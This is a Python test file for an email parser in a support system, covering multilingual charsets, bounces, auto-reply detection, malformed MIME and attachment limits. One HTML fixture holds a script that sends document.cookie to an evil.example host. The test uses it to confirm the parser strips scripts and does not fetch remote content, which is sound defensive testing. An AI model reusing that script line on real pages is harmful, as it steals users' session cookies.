"""Real mails as the team should read them: who, to whom, about what, the new words with
their formatting, the attachments' bytes in the blob store, and a note for what could not
be read — never an exception."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from pathlib import Path

import pytest

from connectors.email.parse import Address, ParsedMail, parse_mail
from core.blobs import DiskBlobStore
from core.content import AttachmentKind, SpanKind

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode()


@pytest.fixture
def blobs(tmp_path: Path) -> DiskBlobStore:
    return DiskBlobStore(tmp_path / "blobs")


def mail(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode()


# A Gmail reply in Russian: text and HTML versions, a quote of our answer, a PDF whose name
# is Cyrillic (RFC 2231) and an image inline in the HTML.
GMAIL_REPLY = mail(
    f"""Return-Path: <ivan.petrov@gmail.com>
MIME-Version: 1.0
Date: Tue, 2 Dec 2026 09:15:00 +0300
References: <first.1@support.example.com> <reply.2@support.example.com>
In-Reply-To: <reply.2@support.example.com>
Message-ID: <CAF=abc123@mail.gmail.com>
Subject: =?UTF-8?B?UmU6INCd0LUg0YDQsNCx0L7RgtCw0LXRgiDRgNC+0YPRgtC10YA=?=
From: =?UTF-8?B?0JjQstCw0L0g0J/QtdGC0YDQvtCy?= <Ivan.Petrov@GMAIL.com>
To: Support <support@example.com>
Cc: =?UTF-8?B?0JzQsNGA0LjRjw==?= <maria@example.ru>, boss@example.ru
Content-Type: multipart/mixed; boundary="000000000000mixed"

--000000000000mixed
Content-Type: multipart/related; boundary="000000000000related"

--000000000000related
Content-Type: multipart/alternative; boundary="000000000000alt"

--000000000000alt
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 8bit

Всё равно не работает. Фото индикаторов ниже, договор во вложении.

вт, 2 дек. 2026 г. в 08:00, Служба поддержки <support@example.com>:

> Попробуйте перезагрузить роутер.

--000000000000alt
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: 8bit

<div dir="ltr">Всё равно <b>не работает</b>. Фото индикаторов ниже, <i>договор</i> во вложении.
<div><img src="cid:ii_lamp1" alt="image.png"></div></div><br>
<div class="gmail_quote"><div dir="ltr" class="gmail_attr">вт, 2 дек. 2026 г. в 08:00,
Служба поддержки &lt;<a href="mailto:support@example.com">support@example.com</a>&gt;:<br>
</div>
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;
border-left:1px solid rgb(204,204,204);padding-left:1ex">
<div dir="ltr">Попробуйте перезагрузить роутер.</div></blockquote></div>

--000000000000alt--

--000000000000related
Content-Type: image/png; name="image.png"
Content-Disposition: inline; filename="image.png"
Content-Transfer-Encoding: base64
Content-ID: <ii_lamp1>

{b64(PNG)}
--000000000000related--

--000000000000mixed
Content-Type: application/pdf; name="=?UTF-8?B?0JTQvtCz0L7QstC+0YAucGRm?="
Content-Disposition: attachment;
 filename*=UTF-8''%D0%94%D0%BE%D0%B3%D0%BE%D0%B2%D0%BE%D1%80%20%E2%84%9612.pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--000000000000mixed--
"""
)


async def test_a_gmail_reply_reads_as_its_new_words_with_formatting_and_files(
    blobs: DiskBlobStore,
) -> None:
    parsed = await parse_mail(GMAIL_REPLY, blobs)

    assert parsed.message_id == "CAF=abc123@mail.gmail.com"
    assert parsed.in_reply_to == ["reply.2@support.example.com"]
    assert parsed.references == ["first.1@support.example.com", "reply.2@support.example.com"]
    assert parsed.subject == "Re: Не работает роутер"
    assert parsed.sender == Address("Иван Петров", "ivan.petrov@gmail.com")
    assert parsed.to == [Address("Support", "support@example.com")]
    assert parsed.cc == [Address("Мария", "maria@example.ru"), Address("", "boss@example.ru")]
    assert parsed.date == datetime(2026, 12, 2, 6, 15, tzinfo=UTC)
    assert parsed.noise is None and parsed.bounce is None

    content = parsed.content
    assert content.text == ("Всё равно не работает. Фото индикаторов ниже, договор во вложении.")
    assert {(s.kind, content.text[s.start : s.end]) for s in content.spans} == {
        (SpanKind.BOLD, "не работает"),
        (SpanKind.ITALIC, "договор"),
    }
    assert parsed.stripped
    assert "Попробуйте перезагрузить роутер." in parsed.full_text

    photo, pdf = content.attachments
    assert (photo.kind, photo.name, photo.mime) == (AttachmentKind.PHOTO, "image.png", "image/png")
    assert photo.blob and await blobs.read(photo.blob) == PNG
    assert (pdf.kind, pdf.name, pdf.mime) == (
        AttachmentKind.DOCUMENT,
        "Договор №12.pdf",
        "application/pdf",
    )
    assert pdf.size == len(PDF)
    assert pdf.blob and await blobs.read(pdf.blob) == PDF
    assert parsed.problems == []


async def test_koi8r_mail_reads_in_russian(blobs: DiskBlobStore) -> None:
    body = "Здравствуйте! Принтер печатает пустые листы.\n\n-- \nС уважением, Пётр"
    raw = (
        b"From: =?koi8-r?B?8MXU0g==?= <petr@example.ru>\r\n"
        b"To: support@example.com\r\n"
        b"Subject: =?koi8-r?B?8NLJztTF0g==?=\r\n"
        b"Message-ID: <koi8@example.ru>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=koi8-r\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body.encode("koi8-r").replace(b"\n", b"\r\n")
    )
    parsed = await parse_mail(raw, blobs)
    assert parsed.sender == Address("Петр", "petr@example.ru")
    assert parsed.subject == "Принтер"
    assert parsed.content.text == "Здравствуйте! Принтер печатает пустые листы."
    assert parsed.stripped
    assert parsed.problems == []


async def test_windows1251_without_a_charset_is_still_read(blobs: DiskBlobStore) -> None:
    raw = (
        b"From: client@example.ru\r\nTo: support@example.com\r\nSubject: test\r\n"
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + "Не приходит счёт за декабрь.".encode("cp1251")
    )
    parsed = await parse_mail(raw, blobs)
    assert parsed.content.text == "Не приходит счёт за декабрь."
    assert any("windows-1251" in p for p in parsed.problems)


async def test_utf8_mislabelled_as_windows1251_reads_as_utf8(blobs: DiskBlobStore) -> None:
    raw = (
        b"From: client@example.ru\r\nTo: support@example.com\r\nSubject: test\r\n"
        b"Content-Type: text/plain; charset=windows-1251\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + "Счёт не пришёл.".encode()
    )
    parsed = await parse_mail(raw, blobs)
    assert parsed.content.text == "Счёт не пришёл."


async def test_utf8_with_a_cut_character_keeps_the_rest(blobs: DiskBlobStore) -> None:
    body = ("Длинное письмо о проблеме с оплатой. " * 20).encode() + b"\xd0"
    raw = (
        b"From: client@example.ru\r\nTo: support@example.com\r\nSubject: test\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body
    )
    parsed = await parse_mail(raw, blobs)
    assert parsed.content.text.startswith("Длинное письмо о проблеме с оплатой. Длинное")
    assert "a few characters of the text could not be read" in parsed.problems


async def test_a_broken_charset_name_falls_back_and_does_not_crash(blobs: DiskBlobStore) -> None:
    raw = (
        b"From: client@example.ru\r\nTo: support@example.com\r\nSubject: test\r\n"
        b"Content-Type: text/plain; charset=x-no-such-charset\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + "Добрый день, всё в порядке.".encode()
    )
    parsed = await parse_mail(raw, blobs)
    assert parsed.content.text == "Добрый день, всё в порядке."
    assert parsed.problems  # the wrong charset name is noted


HTML_ONLY = mail(
    """From: Shop <orders@shop.example>
To: support@example.com
Subject: Order 1234
Message-ID: <order-1234@shop.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><title>Order</title><style>b {color: red}</style>
<script>document.location = "https://evil.example/steal?c=" + document.cookie;</script></head>
<body><span style="display:none">preheader you never see</span>
<h1>Order 1234</h1>
<p>Hello, <strong>Anna</strong>! Your order is <em>delayed</em>.</p>
<ul><li>Phone case</li><li>Charger</li></ul>
<p>Track it <a href="https://shop.example/track/1234">here</a>.</p>
<img src="https://tracker.example/open.gif?id=1" width="1" height="1">
<blockquote>Your earlier question</blockquote>
<p>Thanks for waiting.</p>
</body></html>
"""
)


async def test_html_only_mail_is_text_with_spans_and_nothing_run_or_fetched(
    blobs: DiskBlobStore,
) -> None:
    parsed = await parse_mail(HTML_ONLY, blobs)
    text = parsed.content.text
    assert text == (
        "Order 1234\n\nHello, Anna! Your order is delayed.\n\n• Phone case\n• Charger\n\n"
        "Track it here.\n\nYour earlier question\n\nThanks for waiting."
    )
    shown = {(s.kind, text[s.start : s.end], s.url) for s in parsed.content.spans}
    assert shown == {
        (SpanKind.BOLD, "Order 1234", None),
        (SpanKind.BOLD, "Anna", None),
        (SpanKind.ITALIC, "delayed", None),
        (SpanKind.LINK, "here", "https://shop.example/track/1234"),
        (SpanKind.QUOTE, "Your earlier question", None),
    }
    assert "evil" not in parsed.full_text and "color" not in parsed.full_text
    assert parsed.content.attachments == ()  # the remote image is not fetched
    assert parsed.html


POSTFIX_BOUNCE = mail(
    """Return-Path: <>
Date: Tue,  2 Dec 2026 10:00:05 +0000 (UTC)
From: MAILER-DAEMON@mx.example.com (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@example.com
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4B5A21C0D8.1764669605/mx.example.com"
Message-Id: <20261202100005.9C1F21C0D9@mx.example.com>

This is a MIME-encapsulated message.

--4B5A21C0D8.1764669605/mx.example.com
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.example.com.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@client.example>: host mx.client.example[192.0.2.1] said: 550 5.1.1
    <nobody@client.example>: Recipient address rejected: User unknown in local
    recipient table (in reply to RCPT TO command)

--4B5A21C0D8.1764669605/mx.example.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.com
X-Postfix-Queue-ID: 4B5A21C0D8
X-Postfix-Sender: rfc822; support@example.com
Arrival-Date: Tue,  2 Dec 2026 10:00:04 +0000 (UTC)

Final-Recipient: rfc822; nobody@client.example
Original-Recipient: rfc822;nobody@client.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.client.example
Diagnostic-Code: smtp; 550 5.1.1 <nobody@client.example>: Recipient address
    rejected: User unknown in local recipient table

--4B5A21C0D8.1764669605/mx.example.com
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

Return-Path: <support@example.com>
From: "Anna via Support" <support@example.com>
To: nobody@client.example
Subject: Re: Invoice
Message-ID: <reply.42@support.example.com>
In-Reply-To: <client.1@client.example>

--4B5A21C0D8.1764669605/mx.example.com--
"""
)


async def test_a_postfix_bounce_names_our_reply_and_why(blobs: DiskBlobStore) -> None:
    parsed = await parse_mail(POSTFIX_BOUNCE, blobs)
    bounce = parsed.bounce
    assert bounce is not None
    assert bounce.original_ids == ["reply.42@support.example.com"]
    assert bounce.status == "5.1.1"
    assert bounce.failed
    assert bounce.recipients == ["nobody@client.example"]
    assert bounce.reason.startswith("the address does not exist (550 5.1.1")
    assert "User unknown" in bounce.reason
    assert parsed.noise  # nothing automatic answers a bounce
    assert parsed.content.attachments == ()


async def test_a_bounce_with_the_whole_original_attached(blobs: DiskBlobStore) -> None:
    raw = mail(
        """From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: support@example.com
Subject: Delivery Status Notification (Failure)
MIME-Version: 1.0
Content-Type: multipart/report; boundary="b1"; report-type=delivery-status

--b1
Content-Type: text/plain; charset=utf-8

Your message wasn't delivered: the mailbox is full.

--b1
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com

Final-Recipient: rfc822; full@gmail.com
Action: failed
Status: 5.2.2
Diagnostic-Code: smtp; 552 5.2.2 The recipient's inbox is out of storage space.

--b1
Content-Type: message/rfc822

From: support@example.com
To: full@gmail.com
Subject: Re: hello
Message-ID: <reply.7@support.example.com>

Hello!
--b1--
"""
    )
    parsed = await parse_mail(raw, blobs)
    assert parsed.bounce is not None
    assert parsed.bounce.original_ids == ["reply.7@support.example.com"]
    assert parsed.bounce.reason.startswith("the recipient's mailbox is full")


AUTO_REPLY = mail(
    """From: Ivan Petrov <ivan@example.ru>
To: support@example.com
Subject: =?UTF-8?B?0JDQstGC0L7QvNCw0YLQuNGH0LXRgdC60LjQuSDQvtGC0LLQtdGCOiBSZTog0KHRh9GR0YI=?=
Auto-Submitted: auto-replied
X-Autoreply: yes
In-Reply-To: <reply.42@support.example.com>
Content-Type: text/plain; charset=utf-8

Я в отпуске до 10 декабря.
"""
)


async def test_an_auto_reply_is_read_and_marked_noise(blobs: DiskBlobStore) -> None:
    parsed = await parse_mail(AUTO_REPLY, blobs)
    assert parsed.noise == "Auto-Submitted: auto-replied"
    assert parsed.bounce is None
    assert parsed.content.text == "Я в отпуске до 10 декабря."


@pytest.mark.parametrize(
    ("extra", "sender", "reason"),
    [
        ("Precedence: bulk\n", "news@shop.example", "Precedence: bulk"),
        ("Precedence: list\n", "list@lists.example", "Precedence: list"),
        ("X-Loop: helpdesk@other.example\n", "helpdesk@other.example", "X-Loop"),
        (
            "List-Unsubscribe: <mailto:unsub@shop.example>\n",
            "news@shop.example",
            "List-Unsubscribe",
        ),
        ("X-Auto-Response-Suppress: All\n", "ivan@example.ru", "X-Auto-Response-Suppress"),
        ("", "no-reply@bank.example", "sent from no-reply@bank.example"),
        ("", "noreply@bank.example", "sent from noreply@bank.example"),
        ("", "do-not-reply@bank.example", "sent from do-not-reply@bank.example"),
        ("", "postmaster@mx.example", "sent from postmaster@mx.example"),
        ("Return-Path: <>\n", "robot@example.com", "an empty Return-Path (a machine's mail)"),
    ],
)
async def test_mail_no_automatic_message_may_answer(extra: str, sender: str, reason: str) -> None:
    raw = mail(f"From: {sender}\nTo: support@example.com\nSubject: hi\n{extra}\nHello\n")
    parsed = await parse_mail(raw, None)
    assert parsed.noise == reason


@pytest.mark.parametrize(
    "subject",
    ["Automatic reply: Invoice", "Автоматический ответ: Re: Счёт", "Out of Office: Re: hi"],
)
async def test_an_out_of_office_subject_is_noise_without_its_headers(subject: str) -> None:
    raw = mail(f"From: ivan@example.ru\nTo: support@example.com\nSubject: {subject}\n\nAway\n")
    parsed = await parse_mail(raw, None)
    assert parsed.noise == f"an automatic reply ({subject})"


async def test_a_person_writing_is_no_noise() -> None:
    raw = mail(
        "From: ivan@example.ru\nTo: support@example.com\nSubject: hi\n"
        "Auto-Submitted: no\nPrecedence: normal\n\nHello\n"
    )
    assert (await parse_mail(raw, None)).noise is None


async def test_malformed_mime_still_gives_its_words(blobs: DiskBlobStore) -> None:
    raw = mail(
        """From: broken@example.ru
To: support@example.com
Subject: broken
Content-Type: multipart/mixed; boundary="never-used"

Some words outside any part.
--wrong-boundary
Content-Type: text/plain

Inside a part that is not one.
"""
    )
    parsed = await parse_mail(raw, blobs)
    assert "Some words outside any part." in parsed.content.text
    assert parsed.problems


async def test_garbage_is_a_mail_with_problems_not_an_exception(blobs: DiskBlobStore) -> None:
    parsed = await parse_mail(b"\x00\xff\xfe garbage \r\n\r\n\x80\x81", blobs)
    assert isinstance(parsed, ParsedMail)
    assert parsed.sender.addr == ""
    assert parsed.problems


async def test_a_huge_attachment_is_skipped_with_a_note_and_the_text_kept(
    blobs: DiskBlobStore,
) -> None:
    big = b"\x00" * (30 * 1024 * 1024)
    raw = (
        mail(
            f"""From: client@example.ru
To: support@example.com
Subject: video
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

Посмотрите видео.
--b
Content-Type: application/pdf
Content-Disposition: attachment; filename="small.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--b
Content-Type: video/mp4
Content-Disposition: attachment; filename="screen.mp4"
Content-Transfer-Encoding: base64

"""
        )
        + base64.encodebytes(big).replace(b"\n", b"\r\n")
        + b"--b--\r\n"
    )
    del big
    parsed = await parse_mail(raw, blobs, file_size_limit=20 * 1024 * 1024)
    assert parsed.content.text == "Посмотрите видео."
    (pdf,) = parsed.content.attachments
    assert pdf.name == "small.pdf" and pdf.blob and await blobs.read(pdf.blob) == PDF
    assert any('"screen.mp4" (30 MB) was not taken' in p for p in parsed.problems), parsed.problems


async def test_a_hundred_attachments_keep_the_limit_and_tell_the_rest(
    blobs: DiskBlobStore,
) -> None:
    parts = "".join(
        f'--b\nContent-Type: text/csv\nContent-Disposition: attachment; filename="row{i}.csv"\n'
        f"\nrow,{i}\n"
        for i in range(100)
    )
    raw = mail(
        "From: client@example.ru\nTo: support@example.com\nSubject: many\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n'
        f"--b\nContent-Type: text/plain\n\nSee the files.\n{parts}--b--\n"
    )
    parsed = await parse_mail(raw, blobs, max_attachments=50)
    attachments = parsed.content.attachments
    assert [a.name for a in attachments] == [f"row{i}.csv" for i in range(50)]
    assert await blobs.read(attachments[49].blob or "") == b"row,49"
    assert "50 more attachments were not taken (at most 50 are)" in parsed.problems


async def test_a_2000_character_subject_is_clipped() -> None:
    raw = mail(f"From: a@example.ru\nTo: support@example.com\nSubject: {'Ы' * 2000}\n\nhi\n")
    parsed = await parse_mail(raw, None)
    assert len(parsed.subject) == 1000
    assert parsed.subject.startswith("ЫЫЫ")


async def test_an_empty_body_is_an_empty_content() -> None:
    raw = mail("From: a@example.ru\nTo: support@example.com\nSubject: (empty)\n\n")
    parsed = await parse_mail(raw, None)
    assert parsed.content.empty
    assert parsed.subject == "(empty)"
    assert not parsed.stripped


async def test_missing_and_duplicate_message_ids_just_parse() -> None:
    missing = await parse_mail(mail("From: a@example.ru\nSubject: x\n\nhi\n"), None)
    assert missing.message_id == ""
    doubled = await parse_mail(
        mail("From: a@example.ru\nMessage-ID: <one@x>\nMessage-ID: <two@x>\nSubject: x\n\nhi\n"),
        None,
    )
    assert doubled.message_id == "one@x"
    assert doubled.content.text == "hi"


async def test_format_flowed_lines_are_joined_back() -> None:
    raw = mail(
        "From: a@example.ru\nTo: support@example.com\nSubject: flowed\n"
        "Content-Type: text/plain; charset=utf-8; format=flowed\n\n"
        "Это длинная строка, которую Thunderbird \nразбил на две.\n\n"
        "> цитата, тоже \n> разбитая\n"
    )
    parsed = await parse_mail(raw, None)
    assert parsed.content.text == "Это длинная строка, которую Thunderbird разбил на две."
    assert "> цитата, тоже разбитая" in parsed.full_text


async def test_a_forwarded_mail_attached_becomes_an_eml_file(blobs: DiskBlobStore) -> None:
    raw = mail(
        """From: a@example.ru
To: support@example.com
Subject: Fwd
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

See the attached mail.
--b
Content-Type: message/rfc822

From: bank@example.com
Subject: Your statement
Message-ID: <st@bank>

Balance: 0.
--b--
"""
    )
    parsed = await parse_mail(raw, blobs)
    (eml,) = parsed.content.attachments
    assert (eml.name, eml.mime) == ("Your statement.eml", "message/rfc822")
    assert b"Balance: 0." in await blobs.read(eml.blob or "")
